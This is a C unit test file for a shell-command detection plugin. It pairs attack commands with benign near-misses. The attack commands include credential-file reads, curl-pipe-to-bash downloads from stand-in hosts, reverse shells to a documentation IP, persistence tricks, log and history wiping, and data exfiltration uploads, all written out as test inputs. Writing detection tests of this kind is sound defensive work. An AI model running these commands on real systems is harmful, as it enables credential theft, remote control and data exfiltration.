/* test_shell_rules.c - every technique family with a positive and a near-miss
 * negative example, the recon burst, new-host rules and secret masking. */
#include "tests/unit/detectors/harness.h"

extern const struct detector_plugin detector_shell_rules;

struct sr_case {
    const char *cmd, *rule;
    bool fires;
};

static const struct sr_case cases[] = {
    /* credential access */
    { "cat ~/.aws/credentials", "shell.cred_aws", true },
    { "aws s3 ls --profile prod", "shell.cred_aws", false },
    { "cat /home/bob/.ssh/id_rsa", "shell.cred_ssh_key", true },
    { "cat ~/.ssh/id_ed25519.pub", "shell.cred_ssh_key", false },
    { "ssh -i ~/.ssh/id_rsa bastion-1", "shell.cred_ssh_key", false },
    { "sudo cat /etc/shadow", "shell.cred_shadow", true },
    { "ls -l /etc/shadow", "shell.cred_shadow", false },
    { "cat ~/.kube/config", "shell.cred_kube", true },
    { "kubectl --kubeconfig ~/.kube/config get pods", "shell.cred_kube", false },
    { "env | grep -i secret", "shell.cred_env", true },
    { "env | grep PATH", "shell.cred_env", false },
    { "cat /proc/1/environ", "shell.cred_env", true },
    { "find / -name '*.pem' 2>/dev/null", "shell.key_search", true },
    { "find . -name '*.c'", "shell.key_search", false },
    { "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "shell.cloud_metadata", true },
    { "curl http://10.0.0.5/health", "shell.cloud_metadata", false },
    /* download and execute */
    { "curl -fsSL https://evil.example/x.sh | bash", "shell.download_exec", true },
    { "wget -qO- http://1.2.3.4/i | sudo sh -s -- --now", "shell.download_exec", true },
    { "bash -c \"$(curl -fsSL https://evil.example/install.sh)\"", "shell.download_exec", true },
    { "curl -s https://api.github.com/repos/x/y | jq .tag_name", "shell.download_exec", false },
    { "curl -s https://x.example/data.json | python3 -m json.tool", "shell.download_exec", false },
    { "curl -s https://x.example/a | bash deploy.sh", "shell.download_exec", false },
    { "wget -O /tmp/.x http://203.0.113.9/x && chmod +x /tmp/.x && /tmp/.x", "shell.drop_exec", true },
    { "wget -O /opt/app/pkg.tgz https://releases.example/pkg.tgz && chmod 644 /opt/app/pkg.tgz", "shell.drop_exec", false },
    { "chmod +x /dev/shm/kworker", "shell.tmp_exec", true },
    { "chmod +x ./build.sh", "shell.tmp_exec", false },
    /* obfuscation */
    { "echo ZWNobyBoaQ== | base64 -d | bash", "shell.decode_exec", true },
    { "echo ZWNobyBoaQ== | base64 -d > out.txt", "shell.decode_exec", false },
    { "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA", "shell.powershell_encoded", true },
    { "pwsh -enc SQBFAFgA", "shell.powershell_encoded", true },
    { "powershell -ExecutionPolicy Bypass -File x.ps1", "shell.powershell_encoded", false },
    { "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", "shell.inline_exec", true },
    { "python3 -c 'print(1+1)'", "shell.inline_exec", false },
    /* reverse shells */
    { "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell.reverse_shell", true },
    { "nc -e /bin/sh 203.0.113.9 4444", "shell.reverse_shell", true },
    { "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f", "shell.reverse_shell", true },
    { "socat tcp:203.0.113.9:4444 exec:'bash -li',pty,stderr", "shell.reverse_shell", true },
    { "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0)'", "shell.reverse_shell", true },
    { "nc -zv db-1 5432", "shell.reverse_shell", false },
    { "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80", "shell.reverse_shell", false },
    /* persistence */
    { "crontab -e", "shell.persist_cron", true },
    { "crontab -l", "shell.persist_cron", false },
    { "(crontab -l; echo '* * * * * /tmp/.x') | crontab -", "shell.persist_cron", true },
    { "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys", "shell.persist_ssh_key", true },
    { "cat ~/.ssh/authorized_keys", "shell.persist_ssh_key", false },
    { "sudo tee /etc/systemd/system/kworker.service < unit", "shell.persist_systemd", true },
    { "systemctl status nginx", "shell.persist_systemd", false },
    { "echo /tmp/.x >> /etc/rc.local", "shell.persist_rc_local", true },
    { "echo /tmp/libx.so > /etc/ld.so.preload", "shell.persist_preload", true },
    { "cat /etc/ld.so.preload", "shell.persist_preload", false },
    { "echo 'curl -s http://x/i | sh' >> ~/.bashrc", "shell.persist_shell_rc", true },
    { "source ~/.bashrc", "shell.persist_shell_rc", false },
    /* defense evasion */
    { "history -c", "shell.history_clear", true },
    { "history | tail", "shell.history_clear", false },
    { "unset HISTFILE", "shell.history_disable", true },
    { "export HISTSIZE=0", "shell.history_disable", true },
    { "HISTFILE=/dev/null bash", "shell.history_disable", true },
    { "export HISTSIZE=10000", "shell.history_disable", false },
    { "rm -f ~/.bash_history", "shell.history_delete", true },
    { "cat /dev/null > ~/.bash_history", "shell.history_delete", true },
    { "wc -l ~/.bash_history", "shell.history_delete", false },
    { "shred -u /var/log/auth.log", "shell.log_tamper", true },
    { "echo > /var/log/wtmp", "shell.log_tamper", true },
    { "tail -f /var/log/auth.log", "shell.log_tamper", false },
    { "rm /var/log/app/old.log.gz", "shell.log_tamper", false },
    { "sudo systemctl stop auditd", "shell.disable_security", true },
    { "sudo systemctl restart nginx", "shell.disable_security", false },
    /* staging */
    { "tar czf /tmp/.b.tgz /home /etc", "shell.archive_data", true },
    { "tar xzf release.tgz -C /opt/app", "shell.archive_data", false },
    { "tar czf src.tgz src/", "shell.archive_data", false },
    { "zip -P hunter2 -r /tmp/x.zip docs", "shell.archive_password", true },
    { "zip -r docs.zip docs", "shell.archive_password", false },
    { "7z a -pS3cret /tmp/x.7z /srv/data", "shell.archive_password", true },
    /* exfiltration */
    { "curl -T /tmp/.b.tgz https://transfer.example/", "shell.exfil_upload", true },
    { "curl -F 'file=@/tmp/.b.tgz' https://x.example/up", "shell.exfil_upload", true },
    { "curl --data @/etc/passwd https://x.example/", "shell.exfil_upload", true },
    { "curl -d '{\"a\":1}' http://localhost:8080/api", "shell.exfil_upload", false },
    { "rclone copy /srv/data remote:bucket", "shell.exfil_cloud", true },
    { "rclone ls remote:bucket", "shell.exfil_cloud", false },
    { "nc 203.0.113.9 9000 < /tmp/.b.tgz", "shell.exfil_netcat", true },
    { "tar cz /srv | nc 203.0.113.9 9000", "shell.exfil_netcat", true },
    { "nc -l 9000 > backup.tgz", "shell.exfil_netcat", false },
    /* privilege escalation */
    { "chmod u+s /tmp/bash", "shell.setuid", true },
    { "chmod 644 notes.txt", "shell.setuid", false },
};

Test(shell_rules, every_family_positive_and_near_miss)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    int64_t ts = TH_T0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        th_clear(&t);
        ts += 3600 * NS_PER_SEC;   /* apart: no recon burst mixes in */
        th_shell(&t, ts, "alice", cases[i].cmd);
        unsigned n = th_count(&t, cases[i].rule);
        if (cases[i].fires)
            cr_expect(n == 1, "%s should raise %s (got %u alerts)", cases[i].cmd, cases[i].rule, t.nalerts);
        else
            cr_expect(n == 0, "%s must not raise %s: %s", cases[i].cmd, cases[i].rule,
                      n ? th_find(&t, cases[i].rule)->message : "");
    }
    th_fini(&t);
}

Test(shell_rules, alerts_carry_stage_attack_and_baseline)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    th_shell(&t, TH_T0, "alice", "curl -fsSL https://evil.example/x.sh | bash");
    const struct th_alert *a = th_find(&t, "shell.download_exec");
    cr_assert(a);
    cr_expect_eq(a->severity, SEV_HIGH);
    cr_expect_eq(a->stage, STAGE_EXECUTION);
    cr_expect_str_eq(a->user, "alice");
    cr_expect(strstr(a->message, "first time for alice"), "%s", a->message);
    th_shell(&t, TH_T0 + NS_PER_HOUR, "alice", "wget -qO- http://x/y | sh");
    cr_expect(strstr(th_find(&t, "shell.download_exec")->message, "1 time before"));
    th_fini(&t);
}

Test(shell_rules, recon_burst_is_one_alert)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    const char *recon[] = { "whoami", "id", "uname -a", "cat /etc/passwd", "ip a", "ps aux", "netstat -tlnp", "hostname" };
    for (unsigned i = 0; i < 8; i++)
        th_shell(&t, TH_T0 + i * 10 * NS_PER_SEC, "mallory", recon[i]);
    cr_expect_eq(th_count(&t, "shell.recon_burst"), 1);
    const struct th_alert *a = th_find(&t, "shell.recon_burst");
    cr_assert(a);
    cr_expect_eq(a->stage, STAGE_DISCOVERY);
    cr_expect(strstr(a->message, "mallory"));
    /* The same commands spread over a day by an admin: no burst. */
    th_clear(&t);
    for (unsigned i = 0; i < 8; i++)
        th_shell(&t, TH_T0 + NS_PER_DAY + i * NS_PER_HOUR, "bob", recon[i]);
    cr_expect_eq(th_count(&t, "shell.recon_burst"), 0);
    th_fini(&t);
}

Test(shell_rules, a_first_ssh_to_the_bastion_others_use_is_not_lateral_movement)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    for (int day = 0; day < 3; day++) {
        th_shell(&t, TH_T0 + day * NS_PER_DAY, "alice", "ssh bastion-1");
        th_shell(&t, TH_T0 + day * NS_PER_DAY + 60, "bob", "git pull");
    }
    int64_t now = TH_T0 + 4 * NS_PER_DAY;
    /* a novelty, and one others here share: an observation at info */
    th_shell(&t, now, "bob", "ssh bastion-1");
    const struct th_alert *a = th_find(&t, "shell.lateral_new_host");
    cr_assert(a);
    cr_expect_eq(a->severity, SEV_INFO);
    cr_expect(strstr(a->message, "others here do it too"), "%s", a->message);
    th_shell(&t, now + 1, "bob", "ssh 10.9.8.7");
    cr_expect_eq(th_count(&t, "shell.lateral_new_host"), 2, "a host nobody here reaches still counts");
    a = th_find(&t, "shell.lateral_new_host");
    cr_expect(strstr(a->message, "no user of this host ever did"), "%s", a->message);
    cr_expect_null(strstr(a->message, "others here do it too"), "%s", a->message);
    th_fini(&t);
}

Test(shell_rules, ssh_to_usual_bastion_is_not_lateral_movement)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    for (int day = 0; day < 3; day++) {
        th_shell(&t, TH_T0 + day * NS_PER_DAY, "alice", "ssh -p 2222 alice@bastion-1");
        th_shell(&t, TH_T0 + day * NS_PER_DAY + 60 * NS_PER_SEC, "alice", "scp report.pdf backup-1:/srv/reports/");
    }
    cr_expect_eq(t.nalerts, 0, "learning stays quiet");
    int64_t now = TH_T0 + 4 * NS_PER_DAY;
    th_shell(&t, now, "alice", "ssh bastion-1");
    th_shell(&t, now + 1, "alice", "scp notes.txt backup-1:/srv/reports/");
    cr_expect_eq(t.nalerts, 0, "usual hosts: %s", t.nalerts ? t.alerts[0].message : "");
    th_shell(&t, now + 2, "alice", "ssh -i /tmp/k root@10.9.8.7");
    const struct th_alert *a = th_find(&t, "shell.lateral_new_host");
    cr_assert(a);
    cr_expect(strstr(a->message, "bastion-1"), "baseline in message: %s", a->message);
    th_shell(&t, now + 3, "alice", "scp /tmp/.b.tgz drop@203.0.113.9:/x");
    cr_expect_eq(th_count(&t, "shell.copy_new_host"), 1);
    /* a hidden file from /tmp copied to another host: lateral tool transfer */
    a = th_find(&t, "shell.tool_transfer");
    cr_assert(a);
    cr_expect_eq(a->severity, SEV_MEDIUM);
    cr_expect_eq(a->stage, STAGE_LATERAL_MOVEMENT);
    th_shell(&t, now + 4, "alice", "scp drop@203.0.113.50:/tools/x /tmp/");
    cr_expect_eq(th_count(&t, "shell.lateral_new_host"), 2);
    th_fini(&t);
}

Test(shell_rules, secrets_are_masked_in_evidence_and_message)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    th_shell(&t, TH_T0, "alice",
             "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY; zip -P hunter2 -r /tmp/x.zip /home");
    cr_assert(t.nalerts >= 1);
    for (unsigned i = 0; i < t.nalerts; i++) {
        cr_expect(!strstr(t.alerts[i].message, "wJalrXUtnFEMI"), "%s", t.alerts[i].message);
        cr_expect(!strstr(t.alerts[i].message, "hunter2"), "%s", t.alerts[i].message);
        cr_expect(!strstr(t.alerts[i].evidence, "hunter2"));
        cr_expect(strstr(t.alerts[i].evidence, "****"));
    }
    th_fini(&t);
}

/* Passwords set by scripts are account manipulation (T1098), not a print of
 * secret variables; an admin's rotation alone is an observation. */
Test(shell_rules, password_changes_from_scripts)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    th_shell(&t, TH_T0, "alice", "echo -e \"Password1\\nNewPass2\\nNewPass2\" | passwd");
    cr_expect_eq(th_count(&t, "shell.cred_env"), 0, "%s", t.nalerts ? t.alerts[0].message : "");
    const struct th_alert *a = th_find(&t, "shell.account_password");
    cr_assert(a);
    cr_expect_eq(a->severity, SEV_INFO, "%s", a->message);
    cr_expect_eq(a->stage, STAGE_PERSISTENCE);
    cr_expect_null(strstr(a->message, "NewPass2"), "%s", a->message);
    th_shell(&t, TH_T0 + 1, "bob", "echo 'backup2:Bkp!8574x' | sudo chpasswd");
    cr_expect_eq(th_count(&t, "shell.account_password"), 2);
    cr_expect_null(strstr(th_find(&t, "shell.account_password")->evidence, "Bkp!8574x"));
    th_shell(&t, TH_T0 + 2, "bob", "sudo usermod -p '$6$xyz' svc-x");
    cr_expect_eq(th_count(&t, "shell.account_password"), 3);
    th_shell(&t, TH_T0 + 3, "carol", "echo $AWS_SECRET_ACCESS_KEY");
    cr_expect_eq(th_count(&t, "shell.cred_env"), 1, "a real print of a secret variable");
    th_fini(&t);
}

Test(shell_rules, a_crontab_edit_is_an_observation_a_dropped_job_is_persistence)
{
    struct th t;
    th_init(&t, &detector_shell_rules);
    th_shell(&t, TH_T0, "alice", "(crontab -l; echo '15 3 * * * /usr/local/bin/backup.sh') | crontab -");
    const struct th_alert *a = th_find(&t, "shell.persist_cron");
    cr_assert(a);
    cr_expect_eq(a->severity, SEV_INFO, "%s", a->message);
    th_shell(&t, TH_T0 + 1, "bob", "(crontab -l; echo '*/5 * * * * /dev/shm/.agent') | crontab -");
    a = th_find(&t, "shell.persist_cron");
    cr_expect_eq(a->severity, SEV_HIGH, "%s", a->message);
    cr_expect(strstr(a->message, "dropped or downloaded"), "%s", a->message);
    th_shell(&t, TH_T0 + 2, "carol", "echo \"alias ll='ls -l'\" >> ~/.bashrc");
    cr_expect_eq(th_find(&t, "shell.persist_shell_rc")->severity, SEV_INFO);
    th_shell(&t, TH_T0 + 3, "dave", "echo 'curl -s http://x.example/a | sh' >> ~/.bashrc");
    cr_expect_eq(th_find(&t, "shell.persist_shell_rc")->severity, SEV_HIGH);
    th_fini(&t);
}
